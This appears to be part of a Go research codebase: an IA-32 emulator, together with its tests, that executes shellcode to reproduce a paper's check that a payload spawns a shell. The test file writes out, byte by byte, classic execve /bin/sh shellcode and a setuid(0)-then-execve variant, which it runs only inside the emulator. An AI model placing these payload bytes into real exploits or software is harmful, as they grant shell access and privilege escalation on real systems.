	} else {
		count = c.Regs[x86.ECX] & 31
	}
	if count == 0 {
		return nil
	}
	dst, out := c.rmRead(inst, size)
	if out != nil {
		return out
	}
	src := c.regRead(inst.RegField, size)
	var res uint32
	if count >= bits {
		// Undefined architecturally for 32-bit; mimic a masked shift.
		count %= bits
	}
	if inst.Op == x86.OpSHLD {
		c.CF = dst>>(bits-count)&1 == 1
		res = dst<<count | src>>(bits-count)
	} else {
		c.CF = dst>>(count-1)&1 == 1
		res = dst>>count | src<<(bits-count)
	}
	if bits < 32 {
		res &= 1<<bits - 1
	}
	c.setSZP(res, size)
	return c.rmWrite(inst, size, res)
}

// execBitTest implements BT/BTS/BTR/BTC. For memory operands the bit
// offset is taken modulo the operand width (the common shellcode-free
// case); the full bit-string addressing of the architecture is not
// needed by any corpus payload.
func (c *CPU) execBitTest(inst *x86.Inst, size int) *Outcome {
	bits := uint32(size * 8)
	var bitOff uint32
	if inst.ImmSize > 0 {
		bitOff = uint32(inst.Imm)
	} else {
		bitOff = c.regRead(inst.RegField, size)
	}
	bitOff %= bits
	v, out := c.rmRead(inst, size)
	if out != nil {
		return out
	}
	c.CF = v>>bitOff&1 == 1
	switch inst.Op {
	case x86.OpBTS:
		v |= 1 << bitOff
	case x86.OpBTR:
		v &^= 1 << bitOff
	case x86.OpBTC:
		v ^= 1 << bitOff
	default:
		return nil // BT: no write-back
	}
	return c.rmWrite(inst, size, v)
}

// execBCD implements the ASCII/decimal adjust family on AL/AX.
func (c *CPU) execBCD(inst *x86.Inst) *Outcome {
	al := c.reg8(0)
	switch inst.Op {
	case x86.OpDAA:
		if al&0x0F > 9 || c.AF {
			al += 6
			c.AF = true
		}
		if al > 0x9F || c.CF {
			al += 0x60
			c.CF = true
		}
		c.setReg8(0, al)
	case x86.OpDAS:
		if al&0x0F > 9 || c.AF {
			al -= 6
			c.AF = true
		}
		if al > 0x9F || c.CF {
			al -= 0x60
			c.CF = true
		}
		c.setReg8(0, al)
	case x86.OpAAA:
		if al&0x0F > 9 || c.AF {
			c.setReg8(0, (al+6)&0x0F)
			c.setReg8(4, c.reg8(4)+1)
			c.AF, c.CF = true, true
		} else {
			c.AF, c.CF = false, false
			c.setReg8(0, al&0x0F)
		}
	case x86.OpAAS:
		if al&0x0F > 9 || c.AF {
			c.setReg8(0, (al-6)&0x0F)
			c.setReg8(4, c.reg8(4)-1)
			c.AF, c.CF = true, true
		} else {
			c.AF, c.CF = false, false
			c.setReg8(0, al&0x0F)
		}
	case x86.OpAAM:
		base := uint32(byte(inst.Imm))
		if base == 0 {
			return c.fault(FaultDivide, c.EIP, "aam with zero base")
		}
		c.setReg8(4, al/base)
		c.setReg8(0, al%base)
		c.setSZP(c.reg8(0), 1)
	case x86.OpAAD:
		base := uint32(byte(inst.Imm))
		v := (c.reg8(0) + c.reg8(4)*base) & 0xFF
		c.setReg8(0, v)
		c.setReg8(4, 0)
		c.setSZP(v, 1)
	}
	return nil
}

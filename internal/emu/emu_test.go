package emu

import (
	"testing"
	"testing/quick"

	"repro/internal/x86"
)

// runCode loads code at base+0x1000, points EIP at it, and runs.
func runCode(t *testing.T, code []byte, maxSteps int) (*CPU, Outcome) {
	t.Helper()
	mem, err := NewMemory(DefaultBase, 1<<16)
	if err != nil {
		t.Fatal(err)
	}
	c, err := New(mem)
	if err != nil {
		t.Fatal(err)
	}
	start := mem.Base() + 0x1000
	if err := mem.Load(start, code); err != nil {
		t.Fatal(err)
	}
	c.EIP = start
	return c, c.Run(maxSteps)
}

func TestMemoryBounds(t *testing.T) {
	mem, err := NewMemory(0x1000, 16)
	if err != nil {
		t.Fatal(err)
	}
	if !mem.Contains(0x1000, 16) || mem.Contains(0x1000, 17) || mem.Contains(0xFFF, 1) {
		t.Error("Contains wrong at boundaries")
	}
	if mem.Contains(0x100F, 2) {
		t.Error("straddling end should not be contained")
	}
	if mem.Contains(0x1000, -1) {
		t.Error("negative length should not be contained")
	}
	if err := mem.Load(0x100E, []byte{1, 2, 3}); err == nil {
		t.Error("overlong load should fail")
	}
}

func TestMemoryConstruction(t *testing.T) {
	if _, err := NewMemory(0, 0); err == nil {
		t.Error("zero size should fail")
	}
	if _, err := NewMemory(0xFFFFFFFF, 2); err == nil {
		t.Error("wrapping window should fail")
	}
	if _, err := New(nil); err == nil {
		t.Error("nil memory should fail")
	}
}

func TestMemoryReadWrite(t *testing.T) {
	mem, _ := NewMemory(0x1000, 64)
	if !mem.writeU32(0x1000, 0x11223344) {
		t.Fatal("write failed")
	}
	if v, ok := mem.readU32(0x1000); !ok || v != 0x11223344 {
		t.Errorf("readU32 = %#x, %v", v, ok)
	}
	if v, ok := mem.readU16(0x1000); !ok || v != 0x3344 {
		t.Errorf("readU16 = %#x (little-endian expected)", v)
	}
	if v, ok := mem.readU8(0x1003); !ok || v != 0x11 {
		t.Errorf("readU8 high byte = %#x", v)
	}
	if _, ok := mem.readU32(0x103D); ok {
		t.Error("partially out-of-bounds read should fail")
	}
}

func TestCString(t *testing.T) {
	mem, _ := NewMemory(0x1000, 64)
	if err := mem.Load(0x1000, []byte("/bin/sh\x00junk")); err != nil {
		t.Fatal(err)
	}
	if s := mem.cstring(0x1000); s != "/bin/sh" {
		t.Errorf("cstring = %q", s)
	}
}

func TestSimpleArithmetic(t *testing.T) {
	// mov eax, 5; add eax, 3; sub eax, 2; int 0x80 (exit path not taken:
	// eax=6 means sys_close, which "succeeds" and continues; use hlt-free
	// exit via eax=1).
	code := []byte{
		0xB8, 0x05, 0x00, 0x00, 0x00, // mov eax,5
		0x83, 0xC0, 0x03, // add eax,3
		0x83, 0xE8, 0x02, // sub eax,2
		0xB8, 0x01, 0x00, 0x00, 0x00, // mov eax,1 (exit)
		0xCD, 0x80,
	}
	c, out := runCode(t, code, 100)
	if out.Kind != StopExit {
		t.Fatalf("stop = %v (fault %v)", out.Kind, out.Fault)
	}
	if c.Regs[x86.EAX] != 1 {
		t.Errorf("eax = %d", c.Regs[x86.EAX])
	}
	if out.Steps != 5 {
		t.Errorf("steps = %d, want 5", out.Steps)
	}
}

func TestXorZeroesAndFlags(t *testing.T) {
	code := []byte{0x31, 0xC0, 0xF4} // xor eax,eax; hlt
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault || out.Fault.Kind != FaultPrivileged {
		t.Fatalf("expected hlt privilege fault, got %v", out.Kind)
	}
	if c.Regs[x86.EAX] != 0 || !c.ZF || c.SF || c.CF || c.OF {
		t.Errorf("after xor: eax=%d zf=%v sf=%v cf=%v of=%v",
			c.Regs[x86.EAX], c.ZF, c.SF, c.CF, c.OF)
	}
	if !c.PF {
		t.Error("parity of zero is even; PF should be set")
	}
}

func TestPushPop(t *testing.T) {
	code := []byte{
		0x68, 0x44, 0x33, 0x22, 0x11, // push 0x11223344
		0x59,       // pop ecx
		0x51,       // push ecx
		0x58,       // pop eax
		0x6A, 0xFC, // push -4 (sign-extended imm8)
		0x5A, // pop edx
		0xF4, // hlt (stop)
	}
	c, out := runCode(t, code, 100)
	if out.Kind != StopFault {
		t.Fatalf("unexpected stop %v", out.Kind)
	}
	if c.Regs[x86.ECX] != 0x11223344 || c.Regs[x86.EAX] != 0x11223344 {
		t.Errorf("ecx=%#x eax=%#x", c.Regs[x86.ECX], c.Regs[x86.EAX])
	}
	if c.Regs[x86.EDX] != 0xFFFFFFFC {
		t.Errorf("edx=%#x, want sign-extended -4", c.Regs[x86.EDX])
	}
}

func TestPushEspSemantics(t *testing.T) {
	// push esp must push the pre-decrement value.
	code := []byte{0x54, 0x58, 0xF4} // push esp; pop eax; hlt
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	wantESP := c.Mem.Base() + uint32(c.Mem.Size())
	if c.Regs[x86.EAX] != wantESP {
		t.Errorf("pushed esp = %#x, want %#x", c.Regs[x86.EAX], wantESP)
	}
}

func TestMemoryOperands(t *testing.T) {
	code := []byte{
		0x54,                         // push esp
		0x59,                         // pop ecx (ecx = old esp)
		0xB8, 0xEF, 0xBE, 0xAD, 0xDE, // mov eax, 0xDEADBEEF
		0x89, 0x41, 0xF0, // mov [ecx-0x10], eax
		0x8B, 0x59, 0xF0, // mov ebx, [ecx-0x10]
		0x31, 0x41, 0xF0, // xor [ecx-0x10], eax  → zero
		0x8B, 0x51, 0xF0, // mov edx, [ecx-0x10]
		0xF4,
	}
	c, out := runCode(t, code, 100)
	if out.Kind != StopFault || out.Fault.Kind != FaultPrivileged {
		t.Fatalf("stop %v %v", out.Kind, out.Fault)
	}
	if c.Regs[x86.EBX] != 0xDEADBEEF {
		t.Errorf("ebx = %#x", c.Regs[x86.EBX])
	}
	if c.Regs[x86.EDX] != 0 {
		t.Errorf("edx = %#x, want 0 after xor-with-self", c.Regs[x86.EDX])
	}
}

func TestConditionalJumps(t *testing.T) {
	code := []byte{
		0xB8, 0x05, 0x00, 0x00, 0x00, // mov eax,5
		0x83, 0xF8, 0x05, // cmp eax,5
		0x75, 0x07, // jne +7 (not taken)
		0xB9, 0x01, 0x00, 0x00, 0x00, // mov ecx,1
		0xEB, 0x05, // jmp +5
		0xB9, 0x02, 0x00, 0x00, 0x00, // mov ecx,2 (skipped)
		0xF4, // hlt
	}
	c, out := runCode(t, code, 100)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.ECX] != 1 {
		t.Errorf("ecx = %d, want 1 (jne must not be taken, jmp must skip)", c.Regs[x86.ECX])
	}
}

func TestSignedConditions(t *testing.T) {
	// cmp -1, 1 → -1 < 1 signed (jl taken), but -1 > 1 unsigned (ja taken).
	code := []byte{
		0xB8, 0xFF, 0xFF, 0xFF, 0xFF, // mov eax,-1
		0x83, 0xF8, 0x01, // cmp eax,1
		0x7C, 0x02, // jl +2
		0xF4, 0xF4, // (skipped)
		0xB9, 0x07, 0x00, 0x00, 0x00, // mov ecx,7
		0xF4,
	}
	c, out := runCode(t, code, 100)
	if out.Kind != StopFault || c.Regs[x86.ECX] != 7 {
		t.Fatalf("jl not taken for -1 < 1: ecx=%d stop=%v", c.Regs[x86.ECX], out.Kind)
	}
}

func TestCallRet(t *testing.T) {
	code := []byte{
		0xE8, 0x06, 0x00, 0x00, 0x00, // call +6
		0xB9, 0x2A, 0x00, 0x00, 0x00, // mov ecx,42 (after return)
		0xF4,                         // hlt
		0xBB, 0x07, 0x00, 0x00, 0x00, // target: mov ebx,7
		0xC3, // ret
	}
	c, out := runCode(t, code, 100)
	if out.Kind != StopFault || out.Fault.Kind != FaultPrivileged {
		t.Fatalf("stop %v %+v", out.Kind, out.Fault)
	}
	if c.Regs[x86.EBX] != 7 || c.Regs[x86.ECX] != 42 {
		t.Errorf("ebx=%d ecx=%d", c.Regs[x86.EBX], c.Regs[x86.ECX])
	}
}

func TestLoop(t *testing.T) {
	code := []byte{
		0xB9, 0x05, 0x00, 0x00, 0x00, // mov ecx,5
		0x31, 0xC0, // xor eax,eax
		0x40,       // inc eax
		0xE2, 0xFD, // loop -3
		0xF4,
	}
	c, out := runCode(t, code, 100)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.EAX] != 5 || c.Regs[x86.ECX] != 0 {
		t.Errorf("eax=%d ecx=%d", c.Regs[x86.EAX], c.Regs[x86.ECX])
	}
}

func TestFaultPrivilegedIO(t *testing.T) {
	for _, b := range []byte{'l', 'm', 'n', 'o', 0xE4, 0xEC, 0xEE} {
		code := []byte{b, 0x10}
		_, out := runCode(t, code, 10)
		if out.Kind != StopFault || out.Fault.Kind != FaultPrivileged {
			t.Errorf("opcode %#x: stop=%v fault=%+v", b, out.Kind, out.Fault)
		}
	}
}

func TestFaultWrongSegment(t *testing.T) {
	// gs: mov eax,[ecx] — wrong segment override.
	code := []byte{0x65, 0x8B, 0x01}
	_, out := runCode(t, code, 10)
	if out.Kind != StopFault || out.Fault.Kind != FaultSegment {
		t.Fatalf("stop=%v fault=%+v", out.Kind, out.Fault)
	}
	// ss: override on a DS-default access is fine (flat segments agree).
	code = []byte{
		0x54, 0x59, // push esp; pop ecx
		0x36, 0x8B, 0x41, 0xF0, // ss: mov eax,[ecx-0x10]
		0xF4,
	}
	_, out = runCode(t, code, 10)
	if out.Kind != StopFault || out.Fault.Kind != FaultPrivileged {
		t.Fatalf("ss-override should execute: %v %+v", out.Kind, out.Fault)
	}
}

func TestFaultPageOOB(t *testing.T) {
	code := []byte{0xA1, 0x78, 0x56, 0x34, 0x12} // mov eax,[0x12345678]
	_, out := runCode(t, code, 10)
	if out.Kind != StopFault || out.Fault.Kind != FaultPage {
		t.Fatalf("stop=%v fault=%+v", out.Kind, out.Fault)
	}
}

func TestFaultUninitRegisterAddress(t *testing.T) {
	// mov eax,[ebx] with ebx=0 → page fault (address 0 unmapped).
	code := []byte{0x8B, 0x03}
	_, out := runCode(t, code, 10)
	if out.Kind != StopFault || out.Fault.Kind != FaultPage {
		t.Fatalf("stop=%v fault=%+v", out.Kind, out.Fault)
	}
}

func TestFaultUndefined(t *testing.T) {
	code := []byte{0x0F, 0x0B} // ud2
	_, out := runCode(t, code, 10)
	if out.Kind != StopFault || out.Fault.Kind != FaultUndefined {
		t.Fatalf("stop=%v fault=%+v", out.Kind, out.Fault)
	}
}

func TestFaultDivideByZero(t *testing.T) {
	code := []byte{0x31, 0xD2, 0xF7, 0xF2} // xor edx,edx; div edx
	_, out := runCode(t, code, 10)
	if out.Kind != StopFault || out.Fault.Kind != FaultDivide {
		t.Fatalf("stop=%v fault=%+v", out.Kind, out.Fault)
	}
}

func TestFaultFetchOutside(t *testing.T) {
	mem, _ := NewMemory(DefaultBase, 256)
	c, _ := New(mem)
	c.EIP = 0x1000 // unmapped
	out := c.Run(10)
	if out.Kind != StopFault || out.Fault.Kind != FaultFetch {
		t.Fatalf("stop=%v fault=%+v", out.Kind, out.Fault)
	}
}

func TestMaxSteps(t *testing.T) {
	code := []byte{0xEB, 0xFE} // jmp self
	_, out := runCode(t, code, 50)
	if out.Kind != StopMaxSteps || out.Steps != 50 {
		t.Fatalf("stop=%v steps=%d", out.Kind, out.Steps)
	}
}

// TestExecveShellcode runs the classic Aleph-One-style /bin/sh shellcode
// end to end — the emulator's reason for existing.
func TestExecveShellcode(t *testing.T) {
	code := []byte{
		0x31, 0xC0, // xor eax,eax
		0x50,                     // push eax
		0x68, '/', '/', 's', 'h', // push "//sh"
		0x68, '/', 'b', 'i', 'n', // push "/bin"
		0x89, 0xE3, // mov ebx,esp
		0x50,       // push eax
		0x53,       // push ebx
		0x89, 0xE1, // mov ecx,esp
		0x99,       // cdq
		0xB0, 0x0B, // mov al,11
		0xCD, 0x80, // int 0x80
	}
	_, out := runCode(t, code, 100)
	if out.Kind != StopExecve {
		t.Fatalf("stop=%v fault=%+v", out.Kind, out.Fault)
	}
	if !out.ShellSpawned() {
		t.Fatalf("shell not spawned; syscalls=%+v", out.Syscalls)
	}
	if len(out.Syscalls) != 1 || out.Syscalls[0].Number != SysExecve {
		t.Errorf("syscalls = %+v", out.Syscalls)
	}
	if out.Syscalls[0].Path != "/bin//sh" {
		t.Errorf("path = %q", out.Syscalls[0].Path)
	}
}

func TestSetuidThenExecve(t *testing.T) {
	code := []byte{
		0x31, 0xDB, // xor ebx,ebx
		0x31, 0xC0, // xor eax,eax
		0xB0, 0x17, // mov al,23 (setuid)
		0xCD, 0x80, // int 0x80 — continues
		0x31, 0xC0, // xor eax,eax
		0x50,
		0x68, '/', '/', 's', 'h',
		0x68, '/', 'b', 'i', 'n',
		0x89, 0xE3,
		0x50, 0x53,
		0x89, 0xE1,
		0x99,
		0xB0, 0x0B,
		0xCD, 0x80,
	}
	_, out := runCode(t, code, 100)
	if out.Kind != StopExecve || len(out.Syscalls) != 2 {
		t.Fatalf("stop=%v syscalls=%+v", out.Kind, out.Syscalls)
	}
	if out.Syscalls[0].Number != SysSetuid {
		t.Errorf("first syscall = %d, want setuid", out.Syscalls[0].Number)
	}
	if !out.ShellSpawned() {
		t.Error("shell not spawned")
	}
}

func TestStringOps(t *testing.T) {
	// rep stosb: fill 8 bytes with al.
	code := []byte{
		0x54, 0x5F, // push esp; pop edi
		0x83, 0xEF, 0x20, // sub edi,0x20
		0xB0, 0x41, // mov al,'A'
		0xB9, 0x08, 0x00, 0x00, 0x00, // mov ecx,8
		0xF3, 0xAA, // rep stosb
		0xF4,
	}
	c, out := runCode(t, code, 100)
	if out.Kind != StopFault || out.Fault.Kind != FaultPrivileged {
		t.Fatalf("stop=%v %+v", out.Kind, out.Fault)
	}
	addr := c.Mem.Base() + uint32(c.Mem.Size()) - 0x20
	for i := uint32(0); i < 8; i++ {
		v, ok := c.Mem.readU8(addr + i)
		if !ok || v != 'A' {
			t.Fatalf("byte %d = %#x", i, v)
		}
	}
	if c.Regs[x86.ECX] != 0 {
		t.Errorf("ecx = %d after rep", c.Regs[x86.ECX])
	}
}

func TestMovsAndLods(t *testing.T) {
	code := []byte{
		0x54, 0x5E, // push esp; pop esi
		0x83, 0xEE, 0x20, // sub esi,0x20
		0xC7, 0x06, 0x11, 0x22, 0x33, 0x44, // mov dword [esi], 0x44332211
		0x54, 0x5F, // push esp; pop edi
		0x83, 0xEF, 0x10, // sub edi,0x10
		0xA5,             // movsd
		0x83, 0xEE, 0x04, // sub esi,4 (back to source)
		0xAD, // lodsd → eax
		0xF4,
	}
	c, out := runCode(t, code, 100)
	if out.Kind != StopFault || out.Fault.Kind != FaultPrivileged {
		t.Fatalf("stop=%v %+v", out.Kind, out.Fault)
	}
	if c.Regs[x86.EAX] != 0x44332211 {
		t.Errorf("lodsd eax = %#x", c.Regs[x86.EAX])
	}
	dst := c.Mem.Base() + uint32(c.Mem.Size()) - 0x10
	if v, _ := c.Mem.readU32(dst); v != 0x44332211 {
		t.Errorf("movsd copied %#x", v)
	}
}

func TestPopaPusha(t *testing.T) {
	code := []byte{
		0xB8, 0x01, 0x00, 0x00, 0x00, // eax=1
		0xBB, 0x02, 0x00, 0x00, 0x00, // ebx=2
		0x60,                   // pusha
		0x31, 0xC0, 0x31, 0xDB, // clear eax, ebx
		0x61, // popa
		0xF4,
	}
	c, out := runCode(t, code, 100)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.EAX] != 1 || c.Regs[x86.EBX] != 2 {
		t.Errorf("restored eax=%d ebx=%d", c.Regs[x86.EAX], c.Regs[x86.EBX])
	}
}

func TestShifts(t *testing.T) {
	code := []byte{
		0xB8, 0x01, 0x00, 0x00, 0x00, // mov eax,1
		0xC1, 0xE0, 0x04, // shl eax,4
		0xBB, 0x80, 0x00, 0x00, 0x00, // mov ebx,0x80
		0xC1, 0xEB, 0x03, // shr ebx,3
		0xB9, 0xF0, 0xFF, 0xFF, 0xFF, // mov ecx,-16
		0xC1, 0xF9, 0x02, // sar ecx,2
		0xF4,
	}
	c, out := runCode(t, code, 100)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.EAX] != 0x10 || c.Regs[x86.EBX] != 0x10 {
		t.Errorf("shl/shr: eax=%#x ebx=%#x", c.Regs[x86.EAX], c.Regs[x86.EBX])
	}
	if int32(c.Regs[x86.ECX]) != -4 {
		t.Errorf("sar: ecx=%d, want -4", int32(c.Regs[x86.ECX]))
	}
}

func TestImulForms(t *testing.T) {
	code := []byte{
		0xB8, 0x06, 0x00, 0x00, 0x00, // mov eax,6
		0x6B, 0xC8, 0x07, // imul ecx, eax, 7
		0x0F, 0xAF, 0xC8, // imul ecx, eax
		0xF4,
	}
	c, out := runCode(t, code, 100)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.ECX] != 6*7*6 {
		t.Errorf("ecx = %d, want 252", c.Regs[x86.ECX])
	}
}

func TestByteRegisterAliasing(t *testing.T) {
	code := []byte{
		0xB8, 0x00, 0x00, 0x00, 0x00, // eax=0
		0xB4, 0x12, // mov ah,0x12
		0xB0, 0x34, // mov al,0x34
		0xF4,
	}
	c, out := runCode(t, code, 100)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.EAX] != 0x1234 {
		t.Errorf("eax = %#x, want 0x1234", c.Regs[x86.EAX])
	}
}

func TestLeaNoMemoryFault(t *testing.T) {
	// lea with a wild address must NOT fault: it computes, not accesses.
	code := []byte{0x8D, 0x80, 0x78, 0x56, 0x34, 0x12, 0xF4} // lea eax,[eax+0x12345678]
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault || out.Fault.Kind != FaultPrivileged {
		t.Fatalf("lea faulted: %v %+v", out.Kind, out.Fault)
	}
	if c.Regs[x86.EAX] != 0x12345678 {
		t.Errorf("lea eax = %#x", c.Regs[x86.EAX])
	}
}

func TestBoundFault(t *testing.T) {
	code := []byte{
		0x54, 0x59, // push esp; pop ecx
		0x83, 0xE9, 0x10, // sub ecx,16
		0xC7, 0x01, 0x00, 0x00, 0x00, 0x00, // mov [ecx], 0 (lower)
		0xC7, 0x41, 0x04, 0x05, 0x00, 0x00, 0x00, // mov [ecx+4], 5 (upper)
		0xB8, 0x63, 0x00, 0x00, 0x00, // mov eax, 99
		0x62, 0x01, // bound eax,[ecx] → out of range
	}
	_, out := runCode(t, code, 100)
	if out.Kind != StopFault || out.Fault.Kind != FaultBound {
		t.Fatalf("stop=%v fault=%+v", out.Kind, out.Fault)
	}
}

func TestIntWithoutHandlerFaults(t *testing.T) {
	code := []byte{0xCD, 0x21} // int 0x21 (DOS!) — no handler on Linux
	_, out := runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop=%v", out.Kind)
	}
}

func TestInt3Faults(t *testing.T) {
	code := []byte{0xCC}
	_, out := runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop=%v", out.Kind)
	}
}

func TestALUPropertyAddSub(t *testing.T) {
	mem, _ := NewMemory(DefaultBase, 64)
	c, _ := New(mem)
	f := func(a, b uint32) bool {
		add := c.alu(x86.OpADD, a, b, 4)
		if add != a+b {
			return false
		}
		sub := c.alu(x86.OpSUB, a, b, 4)
		if sub != a-b {
			return false
		}
		// CF after SUB is the borrow.
		if c.CF != (a < b) {
			return false
		}
		x := c.alu(x86.OpXOR, a, b, 4)
		return x == a^b
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}

func TestALUByteWidth(t *testing.T) {
	mem, _ := NewMemory(DefaultBase, 64)
	c, _ := New(mem)
	res := c.alu(x86.OpADD, 0xFF, 1, 1)
	if res != 0 || !c.CF || !c.ZF {
		t.Errorf("byte add overflow: res=%#x cf=%v zf=%v", res, c.CF, c.ZF)
	}
	res = c.alu(x86.OpSUB, 0x00, 1, 1)
	if res != 0xFF || !c.CF || !c.SF {
		t.Errorf("byte sub borrow: res=%#x cf=%v sf=%v", res, c.CF, c.SF)
	}
}

func TestCondEvaluation(t *testing.T) {
	mem, _ := NewMemory(DefaultBase, 64)
	c, _ := New(mem)
	c.alu(x86.OpCMP, 5, 5, 4)
	if !c.cond(4) || c.cond(5) { // je / jne
		t.Error("equality conditions wrong")
	}
	c.alu(x86.OpCMP, 3, 5, 4)
	if !c.cond(2) || !c.cond(12) { // jb, jl
		t.Error("3 < 5 should satisfy jb and jl")
	}
	c.alu(x86.OpCMP, 0xFFFFFFFF, 1, 4) // -1 vs 1
	if c.cond(2) || !c.cond(3) {       // jb false, jae true: unsigned above
		t.Error("unsigned comparison: 0xFFFFFFFF is above 1")
	}
	if !c.cond(12) { // jl: signed -1 < 1
		t.Error("signed comparison: -1 is less than 1")
	}
}

func TestFlagsWordRoundTrip(t *testing.T) {
	mem, _ := NewMemory(DefaultBase, 64)
	c, _ := New(mem)
	c.CF, c.ZF, c.SF, c.OF, c.PF, c.AF, c.DF = true, false, true, true, false, true, true
	w := c.flagsWord()
	c2, _ := New(mem)
	c2.setFlagsWord(w)
	if c2.CF != c.CF || c2.ZF != c.ZF || c2.SF != c.SF || c2.OF != c.OF ||
		c2.PF != c.PF || c2.AF != c.AF || c2.DF != c.DF {
		t.Errorf("flags word round trip failed: %#x", w)
	}
	if w&flagFixed == 0 {
		t.Error("fixed bit must be set")
	}
}

func TestOutcomeStrings(t *testing.T) {
	if StopExecve.String() != "execve" || StopFault.String() != "fault" {
		t.Error("stop names")
	}
	if FaultPage.String() != "page" || FaultKind(99).String() != "unknown" {
		t.Error("fault names")
	}
	if StopKind(99).String() != "unknown" {
		t.Error("unknown stop name")
	}
	fi := &FaultInfo{Kind: FaultPage, EIP: 0x1000, Detail: "x"}
	if fi.Error() == "" {
		t.Error("FaultInfo.Error empty")
	}
}

func TestCWDEAndCDQ(t *testing.T) {
	code := []byte{
		0xB8, 0xFF, 0xFF, 0x00, 0x00, // mov eax,0xFFFF
		0x98, // cwde → eax = 0xFFFFFFFF
		0x99, // cdq  → edx = 0xFFFFFFFF
		0xF4,
	}
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.EAX] != 0xFFFFFFFF || c.Regs[x86.EDX] != 0xFFFFFFFF {
		t.Errorf("eax=%#x edx=%#x", c.Regs[x86.EAX], c.Regs[x86.EDX])
	}
}

func TestXchgAndLeaveEnter(t *testing.T) {
	code := []byte{
		0xB8, 0x01, 0x00, 0x00, 0x00,
		0xBB, 0x02, 0x00, 0x00, 0x00,
		0x93, // xchg eax,ebx
		0xF4,
	}
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.EAX] != 2 || c.Regs[x86.EBX] != 1 {
		t.Errorf("xchg: eax=%d ebx=%d", c.Regs[x86.EAX], c.Regs[x86.EBX])
	}
}

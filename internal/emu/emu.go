// Package emu implements a concrete IA-32 user-mode emulator for the
// instruction subset exercised by this repository's shellcode and text
// decrypters. It substitutes for the paper's "run the vulnerable program
// and observe the spawning of the shell" verification step (Section 5.1):
// a payload is loaded into a flat memory window, executed instruction by
// instruction, and the emulator reports the Linux int 0x80 system calls
// it reaches — an execve of /bin/sh is the observable "shell spawned".
//
// The emulator faults exactly where the paper's validity analysis says
// benign text faults: privileged I/O instructions, memory access through
// wrong segment selectors, out-of-bounds addresses, undefined opcodes,
// and division errors.
package emu

import (
	"errors"
	"fmt"

	"repro/internal/x86"
)

// DefaultBase is the default virtual address of the memory window,
// resembling a Linux stack segment address of the paper's era.
const DefaultBase = 0xBFFF0000

// DefaultMaxSteps bounds a Run when the caller does not override it.
const DefaultMaxSteps = 1 << 20

// ErrBadConfig reports emulator construction with an unusable setup.
var ErrBadConfig = errors.New("emu: invalid configuration")

// FaultKind enumerates the runtime error classes — the "invalid
// instruction" events of the MEL model.
type FaultKind int

// Fault classes.
const (
	// FaultNone is the zero value; a real fault always has another kind.
	FaultNone FaultKind = iota
	// FaultPrivileged covers I/O and other CPL-0 instructions (#GP).
	FaultPrivileged
	// FaultSegment covers memory access through a wrong segment selector.
	FaultSegment
	// FaultPage covers access outside the mapped window (#PF / SIGSEGV).
	FaultPage
	// FaultUndefined covers undefined opcodes (#UD).
	FaultUndefined
	// FaultDivide covers division by zero or quotient overflow (#DE).
	FaultDivide
	// FaultBound covers BOUND range violations (#BR).
	FaultBound
	// FaultFetch covers instruction fetch outside the window or decoding
	// past the end of mapped memory.
	FaultFetch
	// FaultUnsupported covers instructions outside the emulated subset;
	// treated as a crash so that analyses stay conservative.
	FaultUnsupported
)

var faultNames = map[FaultKind]string{
	FaultNone:        "none",
	FaultPrivileged:  "privileged",
	FaultSegment:     "segment",
	FaultPage:        "page",
	FaultUndefined:   "undefined",
	FaultDivide:      "divide",
	FaultBound:       "bound",
	FaultFetch:       "fetch",
	FaultUnsupported: "unsupported",
}

// String returns the fault class name.
func (k FaultKind) String() string {
	if s, ok := faultNames[k]; ok {
		return s
	}
	return "unknown"
}

// Syscall records one int 0x80 invocation observed during execution.
type Syscall struct {
	// Number is EAX at the time of the interrupt (Linux syscall number).
	Number uint32
	// Args are EBX, ECX, EDX (the first three syscall arguments).
	Args [3]uint32
	// Path is the NUL-terminated string EBX pointed at, when readable —
	// for execve this is the program path (e.g. "/bin//sh").
	Path string
}

// Linux IA-32 syscall numbers used by the shellcode corpus.
const (
	SysExit   = 1
	SysFork   = 2
	SysWrite  = 4
	SysExecve = 11
	SysSetuid = 23
	SysDup2   = 63
	SysSocket = 102
)

// StopKind says why Run returned.
type StopKind int

// Stop reasons.
const (
	// StopFault means the CPU raised a fault (details in Outcome.Fault).
	StopFault StopKind = iota + 1
	// StopExit means the program invoked exit(2).
	StopExit
	// StopExecve means the program invoked execve(2) — for the worm
	// corpus, the "shell spawned" observable.
	StopExecve
	// StopMaxSteps means the step budget ran out.
	StopMaxSteps
)

var stopNames = map[StopKind]string{
	StopFault:    "fault",
	StopExit:     "exit",
	StopExecve:   "execve",
	StopMaxSteps: "max-steps",
}

// String returns the stop reason name.
func (k StopKind) String() string {
	if s, ok := stopNames[k]; ok {
		return s
	}
	return "unknown"
}

// FaultInfo describes a runtime fault.
type FaultInfo struct {
	Kind FaultKind
	// EIP is the address of the faulting instruction.
	EIP uint32
	// Addr is the memory address involved, when applicable.
	Addr uint32
	// Detail is a human-readable explanation.
	Detail string
}

// Error implements error so faults can travel through error paths in
// callers that prefer them.
func (f *FaultInfo) Error() string {
	return fmt.Sprintf("emu: %s fault at eip=%#x (%s)", f.Kind, f.EIP, f.Detail)
}

// Outcome is the result of a Run.
type Outcome struct {
	Kind StopKind
	// Fault is set when Kind == StopFault.
	Fault *FaultInfo
	// Syscalls lists every syscall observed, in order.
	Syscalls []Syscall
	// Steps is the number of instructions retired.
	Steps int
}
